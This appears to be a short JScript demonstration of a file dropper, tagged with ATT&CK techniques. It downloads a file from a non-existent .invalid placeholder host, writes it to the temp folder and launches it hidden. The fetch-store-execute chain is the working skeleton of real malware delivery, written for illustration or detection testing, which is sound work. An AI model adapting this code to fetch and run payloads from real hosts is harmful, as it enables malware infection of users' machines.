// Shows: the same dropper in JScript (ATT&CK T1059.007, T1105): fetch a file, store it, start it.
// The host does not exist (.invalid, RFC 2606), so there is nothing to fetch.
var shell = new ActiveXObject("WScript.Shell");
var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\amsight-marker.txt";

var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "https://downloads.example.invalid/invoice.txt", false);
http.send();

var stream = new ActiveXObject("ADODB.Stream");
stream.Type = 1;
stream.Open();
stream.Write(http.responseBody);
stream.SaveToFile(target, 2);
stream.Close();

shell.Run("notepad.exe " + target, 0, false);
